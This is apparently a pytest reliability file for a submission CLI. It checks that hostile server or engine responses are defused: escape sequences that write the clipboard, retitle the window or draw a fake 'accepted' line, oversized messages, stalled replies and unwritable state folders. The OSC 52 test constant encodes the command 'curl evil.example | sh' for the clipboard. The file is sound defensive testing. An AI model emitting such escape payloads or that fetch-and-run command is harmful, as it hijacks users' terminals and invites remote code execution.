"""The contributor's own terminal and time, against a hostile server or engine.

Replayed from the attacks that worked (the real `specsubmit` CLI in a subprocess, stdout
and stderr captured as bytes, since a pipe is what a terminal would be sent): a server's
error message and the receipt's url carried OSC 52 (clipboard write), OSC 0 (window title)
and CSI sequences that cleared the screen and drew a fake "submitted ... (accepted)"
line; a 30 MB error message was printed in full; a 201 whose body never completed hung
`submit` for 121 s and was then recorded as delivered; a malicious Ollama's error text
did the same as the server's; a read-only state folder gave a traceback, from `run` only
after the trials.

Now every outside text passes ``specsubmit.outside_text.visible``, a receipt counts only
when complete and valid, each request has a total deadline, and the state folder is
checked first. Each test asserts what the terminal receives, and the figures are printed
(``-s``) for RELIABILITY.md.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from specschema.examples import example_submission
from specschema.payload import submission_bytes
from tests.reliability.rawpeer import RawPeer, json_response, response_head

SCRIPT = str(Path(sys.executable).with_name("specsubmit"))

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard: "curl evil.example | sh"
OSC0 = "\x1b]0;specsubmit: all good\x07"
FAKE_LINE = "\x1b[2J\x1b[H\x1b[32msubmitted: 1234 (accepted)\x1b[0m\r\n"
C1_CSI = "\x9b2J"
HOSTILE = OSC52 + OSC0 + FAKE_LINE + C1_CSI + "\u202egnp.exe"
# What no terminal may receive from an outside text: ESC, BEL, C1 CSI, a bidi override.
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OLLAMA_", "SPECSUBMIT_"))}
    env.update({"HOME": str(tmp_path / "home"), "SPECSUBMIT_HOME": str(tmp_path / "state"),
                "SPECSUBMIT_RETRY_ATTEMPTS": "2", "SPECSUBMIT_RETRY_BASE_S": "0.05",
                "COLUMNS": "120", **extra})
    return env


def specsubmit(tmp_path: Path, *args: str, timeout: float = 120,
               **env: str) -> tuple[subprocess.CompletedProcess[bytes], float]:
    started = time.monotonic()
    done = subprocess.run([SCRIPT, *args], capture_output=True, timeout=timeout,
                          env=_env(tmp_path, **env), check=False, stdin=subprocess.DEVNULL)
    return done, time.monotonic() - started


def result_file(tmp_path: Path) -> tuple[Path, str]:
    submission = example_submission(seed=7)
    path = tmp_path / "result.json"
    path.write_bytes(submission_bytes(submission))
    return path, str(submission.submission_id)


def assert_no_controls(output: bytes) -> str:
    text = output.decode("utf-8", errors="replace")
    for control in RAW_CONTROLS:
        assert control not in text, (control, text[:500])
    return text


def state(tmp_path: Path, folder: str) -> list[str]:
    return sorted(p.name for p in (tmp_path / "state" / folder).glob("*.json"))


# --- the server's text ------------------------------------------------------------------


def test_escape_sequences_in_a_servers_error_are_shown_not_obeyed(tmp_path: Path) -> None:
    error = {"error": {"code": "schema_invalid", "message": HOSTILE, "details": None}}
    path, sid = result_file(tmp_path)
    with RawPeer(lambda m, p, sock: sock.sendall(json_response(422, error))) as peer:
        done, _ = specsubmit(tmp_path, "submit", str(path), "--server", peer.url, "--yes")
    assert done.returncode == 1
    err = assert_no_controls(done.stderr)
    assert_no_controls(done.stdout)
    last = err.strip().splitlines()[-1]
    assert last.startswith("specsubmit: error: server rejected the submission (422): ")
    assert "\\x1b]52;c;" in last and "\\x1b[2J" in last and "\\u202e" in last
    assert "submitted: 1234" in last  # the fake line is there as text, on the error's line
    assert state(tmp_path, "rejected") == [f"{sid}.json"]
    print(f"\nhostile error message: exit 1, error line {len(last)} chars: {last[:140]}")


def test_a_30_mb_error_message_prints_a_few_hundred_characters(tmp_path: Path) -> None:
    message = "A" * 30_000_000
    body = json.dumps({"error": {"code": "x", "message": message, "details": None}}).encode()
    path, _ = result_file(tmp_path)
    with RawPeer(lambda m, p, sock: sock.sendall(json_response(400, body))) as peer:
        done, seconds = specsubmit(tmp_path, "submit", str(path), "--server", peer.url, "--yes")
    assert done.returncode == 1
    last = done.stderr.decode().strip().splitlines()[-1]
    # At most 256 KiB of an answer are read; of its message 300 characters are shown.
    assert len(last) < 500, len(last)
    assert last.endswith("more characters)")
    print(f"\n30 MB error message: exit 1 in {seconds:.1f} s, error line {len(last)} chars")


def test_a_receipt_with_escapes_is_not_delivered(tmp_path: Path) -> None:
    path, sid = result_file(tmp_path)
    receipt = {"submission_id": sid, "key_id": "x", "received_at": "now",
               "url": "https://board.example/s/" + FAKE_LINE + OSC52}
    with RawPeer(lambda m, p, sock: sock.sendall(json_response(201, receipt))) as peer:
        done, _ = specsubmit(tmp_path, "submit", str(path), "--server", peer.url, "--yes")
    assert done.returncode == 75, done.stderr
    err = assert_no_controls(done.stderr)
    assert_no_controls(done.stdout)
    assert "url is not an http(s) URL" in err
    assert state(tmp_path, "submitted") == [] and state(tmp_path, "pending") == [f"{sid}.json"]


def test_a_receipt_for_another_submission_is_not_delivered(tmp_path: Path) -> None:
    path, sid = result_file(tmp_path)
    receipt = {"submission_id": "00000000-0000-4000-8000-000000000000",
               "url": "https://board.example/s/x"}
    with RawPeer(lambda m, p, sock: sock.sendall(json_response(201, receipt))) as peer:
        done, _ = specsubmit(tmp_path, "submit", str(path), "--server", peer.url, "--yes")
    assert done.returncode == 75
    assert f"not {sid}" in done.stderr.decode()
    assert state(tmp_path, "submitted") == []


# --- stalls -----------------------------------------------------------------------------


def _stalled_201(method: str, path: str, sock: socket.socket) -> None:
    sock.sendall(response_head(201, "Created", {"Content-Type": "application/json"}, 1000)
                 + b'{"submission_id": "')
    time.sleep(30)


def _trickled_201(method: str, path: str, sock: socket.socket) -> None:
    """A byte every 0.3 s: the read timeout (1 s here) never fires."""
    sock.sendall(response_head(201, "Created", {"Content-Type": "application/json"}, 100000))
    for _ in range(200):
        sock.sendall(b" ")
        time.sleep(0.3)


@pytest.mark.parametrize("answer", [_stalled_201, _trickled_201], ids=["stalled", "trickled"])
def test_a_201_that_never_completes_ends_by_the_deadline_undelivered(
        answer: object, tmp_path: Path) -> None:
    path, sid = result_file(tmp_path)
    with RawPeer(answer) as peer:  # type: ignore[arg-type]
        done, seconds = specsubmit(tmp_path, "submit", str(path), "--server", peer.url, "--yes",
                                   SPECSUBMIT_HTTP_TIMEOUT_S="1", SPECSUBMIT_HTTP_DEADLINE_S="2")
        posts = len(peer.requests)
    assert done.returncode == 75, done.stderr
    last = done.stderr.decode().strip().splitlines()[-1]
    assert last.startswith("specsubmit: error: not delivered: ")
    assert state(tmp_path, "submitted") == [] and state(tmp_path, "pending") == [f"{sid}.json"]
    # 2 attempts, each within deadline + read timeout (3 s), plus the start of Python.
    assert posts == 2 and seconds < 2 * 3 + 5, seconds
    print(f"\n201 never completing ({getattr(answer, '__name__', answer)}): exit 75 in "
          f"{seconds:.1f} s after {posts} attempts, kept in pending/: {last[:120]}")


# --- the engine's text ------------------------------------------------------------------


@pytest.mark.parametrize("padding", [30_000, 30_000_000], ids=["30 KB", "30 MB"])
def test_escape_sequences_in_an_engines_error_are_shown_not_obeyed(padding: int,
                                                                    tmp_path: Path) -> None:
    error = {"error": HOSTILE + "B" * padding}
    with RawPeer(lambda m, p, sock: sock.sendall(json_response(500, error))) as ollama:
        done, _ = specsubmit(tmp_path, "run", "--ollama", ollama.url, "--no-submit",
                             "--yes", timeout=60)
    assert done.returncode != 0
    err = assert_no_controls(done.stderr)
    assert_no_controls(done.stdout)
    last = err.strip().splitlines()[-1]
    # Parsed: the escapes shown as \x1b; past 64 KiB the JSON is cut, so its own \u001b.
    assert ("\\x1b]0;" in last or "\\u001b]0;" in last) and len(last) < 800, last[:900]
    print(f"\nhostile Ollama error: exit {done.returncode}, error line {len(last)} chars")


# --- the state folder -------------------------------------------------------------------


COMMANDS = [["run", "--no-submit"], ["keys", "show"], ["results", "list"]]


def _unwritable_state(command: list[str], tmp_path: Path, home: Path,
                      reason: str) -> None:
    with RawPeer(lambda m, p, sock: sock.sendall(json_response(200, {}))) as ollama:
        args = [*command, "--ollama", ollama.url] if command[0] == "run" else command
        done, _ = specsubmit(tmp_path, *args, timeout=60, SPECSUBMIT_HOME=str(home))
        requests = ollama.requests
    err = done.stderr.decode()
    assert done.returncode == 1, err
    assert "Traceback" not in err
    assert err.strip().splitlines() == [
        f"specsubmit: error: the state folder {home} cannot be written ({reason}): "
        "make it writable, or set SPECSUBMIT_HOME to a folder you can write"]
    assert requests == []  # not one request to the engine before the line


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
                    reason="root writes into a read-only folder")
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_read_only_state_folder_is_one_line_before_any_request(
        command: list[str], tmp_path: Path) -> None:
    home = tmp_path / "state"
    home.mkdir()
    home.chmod(stat.S_IRUSR | stat.S_IXUSR)
    try:
        _unwritable_state(command, tmp_path, home, "Permission denied")
    finally:
        home.chmod(stat.S_IRWXU)


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_state_folder_that_cannot_be_made_is_one_line_before_any_request(
        command: list[str], tmp_path: Path) -> None:
    """The same check where the folder cannot be created (its parent is a file): this one
    also runs as root, which a read-only folder does not stop."""
    (tmp_path / "a-file").write_text("not a folder")
    _unwritable_state(command, tmp_path, tmp_path / "a-file" / "state", "Not a directory")
